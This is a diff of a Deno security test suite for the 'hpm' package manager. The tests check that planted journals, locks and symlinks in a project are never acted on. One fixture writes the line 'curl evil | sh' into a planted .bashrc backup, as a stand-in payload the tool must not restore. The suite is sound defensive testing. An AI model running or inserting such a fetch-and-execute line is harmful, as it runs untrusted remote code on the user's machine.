@@ -11,8 +11,7 @@
 import assert from "node:assert/strict";
 import { join } from "node:path";
 import { fileUrl, git, makeTempRoot, type RunResult, writeFile } from "./_fixtures.ts";
-import { hpm } from "./_project.ts";
-import { sealRecord } from "../lib/seal.ts";
+import { hpm, journalOf } from "./_project.ts";
 
 const SECRET = "SECRET-TOKEN-8d1f2c";
 const REAL_HOME = Deno.env.get("HOME") ?? "/root";
@@ -121,11 +120,12 @@ async function cleanup(w: World) {
   await Deno.remove(w.root, { recursive: true });
 }
 
-Deno.test("1: a committed journal naming files outside the project is never acted on", async () => {
+Deno.test("1: a committed .hpm/ (a journal naming files outside the project, a lock) is never read, acted on or deleted", async () => {
   const w = await world();
   try {
     await writeFile(join(w.root, "outside.txt"), "outside\n");
     await Deno.symlink(w.home, join(w.dir, "evil"));
+    // What earlier HPM builds kept in the project, as a stranger would commit it.
     const journal = join(w.dir, ".hpm", "journal");
     await writeFile(
       join(journal, "journal.json"),
@@ -141,36 +141,36 @@ Deno.test("1: a committed journal naming files outside the project is never acte
     );
     await writeFile(join(journal, "evil", ".bashrc.before"), "curl evil | sh\n");
     await writeFile(join(journal, "pyproject.toml.before"), "[project]\nname = 'pwned'\n");
-    const r = await attacked(w, ["diff"]);
-    expectCode(r, 0);
-    assert.match(r.stderr, /ignored .*journal\.json: it was not written by hpm/);
-    assert.equal(await Deno.readTextFile(join(w.root, "outside.txt")), "outside\n");
-    assert.equal(await Deno.readTextFile(join(w.dir, "pyproject.toml")), PYPROJECT);
-    assert.equal(await Deno.readTextFile(join(w.home, ".bashrc")), "# my shell\n");
-
-    // Committed to git, the same .hpm/ is refused outright.
+    await writeFile(join(w.dir, ".hpm", "lock"), JSON.stringify({ pid: 1 }));
+    const planted = await tree(join(w.dir, ".hpm"));
     await git(["init", "-q", "-b", "main"], { cwd: w.dir });
     await git(["add", "-A"], { cwd: w.dir });
     await git(["commit", "-qm", "evil"], { cwd: w.dir });
-    const tracked = await attacked(w, ["status"]);
-    expectCode(tracked, 2);
-    assert.match(tracked.stderr, /\.hpm\/ is tracked by git/);
-    assert.match(tracked.stderr, /git rm -r --cached \.hpm/);
+    for (const args of [["diff"], ["status"]]) {
+      const r = await attacked(w, args);
+      expectCode(r, 0);
+      assert.doesNotMatch(r.stderr, /journal|rolled back|ignored/, args.join(" "));
+    }
+    assert.equal(await Deno.readTextFile(join(w.root, "outside.txt")), "outside\n");
+    assert.equal(await Deno.readTextFile(join(w.dir, "pyproject.toml")), PYPROJECT);
+    assert.equal(await Deno.readTextFile(join(w.home, ".bashrc")), "# my shell\n");
+    assert.deepEqual(await tree(join(w.dir, ".hpm")), planted, "left as it is");
   } finally {
     await cleanup(w);
   }
 });
 
-Deno.test("2: a .hpm or .hpm/journal that is a link to another folder is refused, nothing deleted or created there", async () => {
+Deno.test("2: a .hpm or .hpm/journal that is a link to another folder is not followed: nothing read, deleted or created there", async () => {
   for (const linked of [".hpm", ".hpm/journal"]) {
     const w = await world();
     try {
       if (linked === ".hpm/journal") await Deno.mkdir(join(w.dir, ".hpm"));
       await Deno.symlink(w.sentinel, join(w.dir, linked));
-      const r = await attacked(w, ["status"]);
-      expectCode(r, 2);
-      assert.match(r.stderr, /is a symbolic link/);
-      assert.deepEqual(await tree(w.sentinel), { "keep.txt": "keep me\n" });
+      for (const args of [["sync", "--no-install"], ["status"]]) {
+        // attacked() checks that the sentinel folder is as it was.
+        expectCode(await attacked(w, args), 0);
+      }
+      assert.ok((await Deno.lstat(join(w.dir, linked))).isSymlink, "left as it is");
     } finally {
       await cleanup(w);
     }
@@ -348,21 +348,25 @@ Deno.test("7: state and project files linked to /dev/zero are refused without re
       "pyproject.toml",
       ".hpm/lock",
       ".hpm/journal/journal.json",
+      "the user's own journal",
     ]
   ) {
     const w = await world();
     try {
-      const path = join(w.dir, file);
+      const path = file.startsWith("the user's")
+        ? await journalOf(w.dir, w.env)
+        : join(w.dir, file);
       await Deno.mkdir(join(path, ".."), { recursive: true });
       await Deno.remove(path).catch(() => {});
       await Deno.symlink("/dev/zero", path);
       const r = await attacked(w, ["status"]);
       assert.ok(r.seconds < 30, `${file}: bounded time (${r.seconds} s)`);
-      if (file.startsWith(".hpm/journal")) {
+      if (file.startsWith("the user's")) {
+        // The journal's own folder is the user's: a link there is reported, never read.
         expectCode(r, 0);
-        assert.match(r.stderr, /ignored .*journal\.json/);
-      } else if (file === ".hpm/lock") {
-        // The project lock is not in the project: a planted one means nothing.
+        assert.match(r.stderr, /ignored .*\.journal: .*symbolic link/);
+      } else if (file.startsWith(".hpm/")) {
+        // Nothing in a project's .hpm/ is HPM's: a planted file means nothing.
         expectCode(r, 0);
         assert.ok((await Deno.lstat(path)).isSymlink, "left as it is");
       } else {
@@ -435,29 +439,31 @@ Deno.test("9: a journal never gets an unrelated process killed", async () => {
   try {
     const start = (await Deno.readTextFile(`/proc/${sleeper.pid}/stat`))
       .split(") ")[1].split(" ")[19];
-    const journal = join(w.dir, ".hpm", "journal");
-    const record = {
-      pid: 4194305,
-      child: sleeper.pid,
-      childStart: start,
-      childProgram: "uv",
-      state: "applying",
-      files: [{ name: "uv.lock", existed: false }],
-    };
-    // Unsealed (as a stranger would commit it): ignored.
-    await writeFile(join(journal, "journal.json"), JSON.stringify(record));
-    const r = await attacked(w, ["diff"]);
-    expectCode(r, 0);
-    assert.match(r.stderr, /ignored/);
-    // Sealed by this user's hpm, but the pid now belongs to `sleep`: the
-    // files are restored, the process is left alone.
-    await writeFile(
-      join(journal, "journal.json"),
-      await sealRecord(w.dir, record, w.env),
-    );
+    const journal = await journalOf(w.dir, w.env);
+    // A journal of this user's (the format of lib/transaction.ts: a line of
+    // JSON, then the saved copies, here none) whose uv has gone, and whose
+    // pid now belongs to `sleep`.
+    const record = (root: string) =>
+      JSON.stringify({
+        pid: 4194305,
+        root,
+        child: sleeper.pid,
+        childStart: start,
+        childProgram: "uv",
+        state: "applying",
+        files: [{ name: "uv.lock", existed: false }],
+      }) + "\n";
+    // Another project's (a hash-named journal is checked against its root): ignored.
+    await writeFile(journal, record(w.root));
+    const other = await attacked(w, ["diff"]);
+    expectCode(other, 0);
+    assert.match(other.stderr, /ignored .*not an hpm journal of this project/);
+    // This project's: the files are restored, the process is left alone.
+    await writeFile(journal, record(await Deno.realPath(w.dir)));
     const genuine = await attacked(w, ["diff"]);
     expectCode(genuine, 0);
     assert.match(genuine.stderr, /rolled back/);
+    assert.equal(await exists(journal), false, "the journal is gone");
     const alive = await Deno.lstat(`/proc/${sleeper.pid}`).then(() => true, () => false);
     assert.ok(alive, "sleep is still running");
   } finally {
@@ -486,7 +492,7 @@ Deno.test("10: terminal escapes in registry fields are shown escaped", async () 
   }
 });
 
-Deno.test("11: a planted lock does not block, a malformed journal gives no stack trace", async () => {
+Deno.test("11: a planted lock does not block, a damaged journal gives no stack trace", async () => {
   const w = await world();
   try {
     const planted = JSON.stringify({ pid: 1 });
@@ -495,11 +501,12 @@ Deno.test("11: a planted lock does not block, a malformed journal gives no stack
     expectCode(r, 0);
     assert.ok(r.seconds < 20, `not blocked (${r.seconds} s)`);
     assert.equal(await Deno.readTextFile(join(w.dir, ".hpm", "lock")), planted, "left as it is");
-    await writeFile(join(w.dir, ".hpm", "journal", "journal.json"), '{"pid": 12, "files": [');
+    // Cut short (a disk that lost its tail): reported each time, nothing restored.
+    await writeFile(await journalOf(w.dir, w.env), '{"pid": 12, "files": [');
     for (let i = 0; i < 2; i++) {
       const again = await attacked(w, ["status"]);
       expectCode(again, 0);
-      assert.match(again.stderr, /ignored .*journal\.json/);
+      assert.match(again.stderr, /ignored .*\.journal: it is not an hpm journal/);
     }
   } finally {
     await cleanup(w);
